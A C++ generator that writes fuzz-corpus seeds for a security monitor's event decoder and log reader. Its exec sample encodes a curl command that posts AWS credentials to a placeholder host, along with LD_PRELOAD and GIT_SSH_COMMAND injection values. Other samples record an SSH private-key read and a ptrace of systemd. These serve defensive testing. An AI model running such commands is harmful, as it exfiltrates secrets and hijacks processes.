// SPDX-License-Identifier: Apache-2.0
// Writes the binary seed inputs of tests/fuzz/corpus (run once; the output is checked in):
//   decode/          ring records built from the abi.h structs, one per event type and variant
//   eventlog_codec/  EVENT payloads of one event of each body type (mode byte 0)
//   eventlog_reader/ segments: one written by the real Writer (zstd blocks, policy, note and
//                    events), one built with stored blocks, and a torn copy of it
// The text seeds (profiles, rules, allowlists, k8s JSON) are copied by hand; see README.md.
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "eventlog/codec.h"
#include "eventlog/crc32c.h"
#include "eventlog/format.h"
#include "eventlog/hash.h"
#include "eventlog/wire.h"
#include "eventlog/writer.h"
#include "unit/eventlog/samples.h"
#include "vigil/abi.h"

namespace {

namespace fs = std::filesystem;
using namespace vigil;

void write_file(const fs::path &p, std::string_view bytes)
{
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary | std::ios::trunc).write(bytes.data(),
                                                            static_cast<std::streamsize>(bytes.size()));
}

vg_event_hdr hdr(uint16_t type, uint16_t flags = 0)
{
  vg_event_hdr h;
  std::memset(&h, 0, sizeof(h));
  h.type = type;
  h.version = VG_ABI_VERSION;
  h.flags = flags;
  h.ts_ns = 123456789012345ull;
  h.cgroup_id = 4242;
  h.tgid = 1000;
  h.tid = 1001;
  h.uid = 1000;
  h.gid = 1000;
  h.profile_id = 1;
  h.rule_id = 2;
  h.verdict = VG_VERDICT_DENY;
  h.tier = VG_TIER_LSM;
  std::memcpy(h.comm, "node", 5);
  return h;
}

template <typename T> std::string record(T fixed, std::string_view tail = {})
{
  auto *h = reinterpret_cast<vg_event_hdr *>(&fixed);
  h->size = static_cast<uint16_t>(sizeof(T) + tail.size());
  std::string out(reinterpret_cast<const char *>(&fixed), sizeof(T));
  out.append(tail);
  return out;
}

template <typename T> T zeroed()
{
  T v;
  std::memset(&v, 0, sizeof(v));
  return v;
}

void decode_seeds(const fs::path &dir)
{
  {
    auto e = zeroed<vg_event_exec>();
    e.hdr = hdr(VG_EV_EXEC, VG_F_ENV_TRUNC);
    e.ppid = 999;
    e.loginuid = 0xffffffffu;
    e.exe_ino = 1234;
    e.exe_dev = (8u << 20) | 1;
    const std::string_view path("/usr/bin/curl\0", 14);
    const std::string_view args("curl\0-d\0@/home/agent/.aws/credentials\0https://x.example\0", 56);
    const std::string_view env("LD_PRELOAD=/tmp/x.so\0GIT_SSH_COMMAND=sh\0", 40);
    e.path_len = static_cast<uint16_t>(path.size());
    e.args_len = static_cast<uint16_t>(args.size());
    e.env_len = static_cast<uint16_t>(env.size());
    write_file(dir / "exec", record(e, std::string(path) + std::string(args) + std::string(env)));
  }
  {
    auto f = zeroed<vg_event_fork>();
    f.hdr = hdr(VG_EV_FORK);
    f.child_tgid = 5151;
    write_file(dir / "fork", record(f));
  }
  {
    auto x = zeroed<vg_event_exit>();
    x.hdr = hdr(VG_EV_EXIT);
    x.exit_code = (1 << 8) | 9;
    write_file(dir / "exit", record(x));
  }
  {
    auto o = zeroed<vg_event_open>();
    o.hdr = hdr(VG_EV_OPEN, VG_F_PATH_RESOLVED);
    o.ret = -13;
    o.flags = 0x80000;
    o.dfd = -100;
    o.call = VG_OPEN_OPENAT2;
    const std::string_view path("/home/agent/.ssh/id_ed25519\0", 28);
    o.path_len = static_cast<uint16_t>(path.size());
    write_file(dir / "open", record(o, path));
  }
  for (uint16_t family : {2, 10, 1}) {
    auto c = zeroed<vg_event_connect>();
    c.hdr = hdr(VG_EV_CONNECT, family == 1 ? VG_F_IPC : VG_F_SENDMSG);
    c.ret = -115;
    c.family = family;
    c.port = 443;
    c.fd = 5;
    const uint8_t v4[4] = {93, 184, 216, 34};
    if (family == 2)
      std::memcpy(c.addr, v4, 4);
    else if (family == 10)
      c.addr[15] = 1;
    else
      std::memcpy(c.unix_path, "\0docker-abstract", 16);
    write_file(dir / ("connect-" + std::to_string(family)), record(c));
  }
  {
    auto p = zeroed<vg_event_ptrace>();
    p.hdr = hdr(VG_EV_PTRACE);
    p.target_tgid = 1;
    p.mode = 0x4;
    p.target_cgroup = 1;
    std::memcpy(p.target_comm, "systemd", 8);
    write_file(dir / "ptrace", record(p));
  }
  {
    auto s = zeroed<vg_event_socket>();
    s.hdr = hdr(VG_EV_SOCKET);
    s.family = 17;
    s.type = 3;
    s.protocol = 768;
    s.ret = -1;
    write_file(dir / "socket", record(s));
  }
  {
    auto t = zeroed<vg_event_tamper>();
    t.hdr = hdr(VG_EV_TAMPER);
    t.kind = VG_TAMPER_SIGNAL;
    t.arg = 9;
    t.target_tgid = 77;
    std::memcpy(t.name, "vigil", 6);
    write_file(dir / "tamper", record(t));
  }
  {
    auto t = zeroed<vg_event_throttle>();
    t.hdr = hdr(VG_EV_THROTTLE);
    t.suppressed = 100000;
    t.rate = 50000;
    write_file(dir / "throttle", record(t));
  }
  {
    // A DNS answer: pypi.vigil.test A 127.0.0.9, its owner compressed to the question.
    auto d = zeroed<vg_event_dns>();
    d.hdr = hdr(VG_EV_DNS);
    d.addr[10] = d.addr[11] = 0xff;
    d.addr[12] = 127;
    d.addr[15] = 53;
    d.port = 53;
    d.proto = 17;
    const unsigned char msg[] = {0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0,
                                 4, 'p', 'y', 'p', 'i', 5, 'v', 'i', 'g', 'i', 'l',
                                 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1,
                                 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 9};
    std::memcpy(d.data, msg, sizeof(msg));
    d.len = d.total = sizeof(msg);
    write_file(dir / "dns", record(d));
  }
}

void codec_seeds(const fs::path &dir)
{
  for (const auto &ev : eventlog::test::one_of_each(7)) {
    std::string out(1, '\0'); // mode byte: a payload
    eventlog::encode(ev, out);
    write_file(dir / ("payload-" + std::string(pipeline::to_string(ev.hdr.type))), out);
  }
}

// A closed segment of stored (uncompressed) blocks, chained as the writer chains them.
std::string stored_segment()
{
  using namespace eventlog;
  SegmentHeader h;
  h.seq = 3;
  h.created_realtime_ns = 1'700'000'000'000'000'000ull;
  h.created_boottime_ns = 1'000'000'000ull;
  h.host = "fuzz-host";
  h.kernel = "6.1.0";
  h.vigil_version = "0.1.0";
  std::string seg = encode_header(h);
  Sha256 sha;
  Hash chain = chain_start(sha, wire::as_bytes(seg));
  uint64_t index = 0;
  auto add_block = [&](const std::vector<std::pair<RecordType, std::string>> &records) {
    std::string raw;
    for (const auto &[type, payload] : records) {
      char rh[kRecordHeaderSize];
      auto *b = reinterpret_cast<std::byte *>(rh);
      wire::store_le<uint32_t>(b, static_cast<uint32_t>(payload.size()));
      wire::store_le<uint16_t>(b + 4, static_cast<uint16_t>(type));
      wire::store_le<uint16_t>(b + 6, 0);
      wire::store_le<uint32_t>(b + 8, crc32c(payload.data(), payload.size(), crc32c(rh, 8)));
      raw.append(rh, sizeof(rh));
      raw += payload;
    }
    FrameHeader f;
    f.kind = BlockKind::records;
    f.codec = BlockCodec::stored;
    f.raw_len = f.stored_len = static_cast<uint32_t>(raw.size());
    f.count = static_cast<uint32_t>(records.size());
    f.first_index = index;
    f.chain = chain;
    f.data_crc = crc32c(raw.data(), raw.size());
    const std::string frame = encode_frame(f);
    chain = chain_next(sha, chain, wire::as_bytes(frame), wire::as_bytes(raw));
    seg += frame;
    seg += raw;
    index += records.size();
  };
  std::vector<std::pair<RecordType, std::string>> first;
  first.emplace_back(RecordType::policy,
                     R"({"file":"rules/profiles/default.yaml","sha256":"00","text":"profile: x"})");
  first.emplace_back(RecordType::cgroup, R"({"cgroup_id":4242,"path":"/agent","profile":"default"})");
  for (const auto &ev : eventlog::test::one_of_each(1)) {
    std::string p;
    eventlog::encode(ev, p);
    first.emplace_back(RecordType::event, p);
  }
  add_block(first);
  add_block({{RecordType::alert, R"({"rule":"cred-read","severity":"critical"})"},
             {RecordType::note, R"({"text":"12 records dropped"})"},
             {static_cast<RecordType>(77), "future record type"}});
  Trailer t{index, 1'700'000'001'000'000'000ull, CloseReason::shutdown};
  const std::string payload = encode_trailer(t);
  FrameHeader f;
  f.kind = BlockKind::trailer;
  f.codec = BlockCodec::stored;
  f.raw_len = f.stored_len = static_cast<uint32_t>(payload.size());
  f.first_index = index;
  f.chain = chain;
  f.data_crc = crc32c(payload.data(), payload.size());
  seg += encode_frame(f);
  seg += payload;
  return seg;
}

std::string writer_segment()
{
  using namespace eventlog;
  const fs::path dir = fs::temp_directory_path() / ("vg-corpus-" + std::to_string(::getpid()));
  fs::remove_all(dir);
  WriterOptions o;
  o.dir = dir.string();
  o.block_bytes = 512; // several blocks
  o.host = "fuzz-host";
  o.kernel = "6.1.0";
  auto w = Writer::open(o);
  if (!w)
    throw std::runtime_error(w.error().message());
  (*w)->append_policy(R"({"file":"default.yaml","text":"profile: default"})", Hash{});
  for (uint64_t seq = 0; seq < 3; ++seq)
    for (const auto &ev : test::one_of_each(seq))
      (*w)->append_event(ev);
  (*w)->append(RecordType::note, R"({"text":"recorder started"})");
  (*w)->close();
  std::string out;
  for (const auto &e : fs::directory_iterator(dir)) {
    std::ifstream in(e.path(), std::ios::binary);
    out.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  }
  fs::remove_all(dir);
  return out;
}

} // namespace

int main(int argc, char **argv)
{
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <tests/fuzz/corpus>\n", argv[0]);
    return 2;
  }
  const fs::path root = argv[1];
  decode_seeds(root / "decode");
  codec_seeds(root / "eventlog_codec");
  // Mode byte 0: the bytes as they are.
  const std::string stored = stored_segment();
  write_file(root / "eventlog_reader" / "stored-closed", std::string(1, '\0') + stored);
  write_file(root / "eventlog_reader" / "stored-torn",
             std::string(1, '\0') + stored.substr(0, stored.size() - 30));
  write_file(root / "eventlog_reader" / "writer-zstd", std::string(1, '\0') + writer_segment());
  return 0;
}
